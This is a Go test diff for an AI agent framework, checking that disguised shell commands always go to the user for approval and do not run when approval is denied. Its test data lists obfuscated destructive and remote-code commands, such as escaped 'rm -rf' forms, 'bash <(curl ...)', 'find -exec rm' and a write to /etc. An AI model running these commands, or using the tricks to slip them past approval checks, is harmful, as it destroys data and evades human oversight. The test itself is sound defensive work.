@@ -247,6 +247,27 @@ func TestApprovals(t *testing.T) {
 	}
 }
 
+// APR-004: no pattern decides, so that none can be got around: every command is asked
+// about as it would run.
+func TestDisguisedCommandsAreAsked(t *testing.T) {
+	for _, command := range []string{
+		`r\m -rf x`, `$'\x72m' -rf x`, "bash <(curl https://x.example)", "python3 <<'EOF'\nimport os\nEOF", "find . -exec /bin/rm {} +",
+		"echo x | tee /etc/x", "r\\\nm -rf x", "echo '${VAR:-rm}'",
+	} {
+		ran := false
+		danger := makeTool("danger", tool.Spec{Needs: tool.Exec}, func(context.Context, tool.Call, string) (tool.Result, error) {
+			ran = true
+			return tool.Result{}, nil
+		})
+		b := newBench(t, with(danger), agentcoretest.Call(agentcoretest.Tool("c", "danger", args(command))), agentcoretest.Say("done"))
+		b.asker.Answer = agentcoretest.Decide(record.ApprovalDenied, "").Answer
+		b.run(t.Context())
+		if q := b.asker.Questions(); len(q) != 1 || !strings.Contains(q[0].Question, command) || ran {
+			t.Errorf("%q: asked %+v, ran %v", command, q, ran)
+		}
+	}
+}
+
 // APR-006: one question at a time, each for its own call, nothing runs meanwhile.
 func TestQuestionsAreAskedOneAtATime(t *testing.T) {
 	var log []string
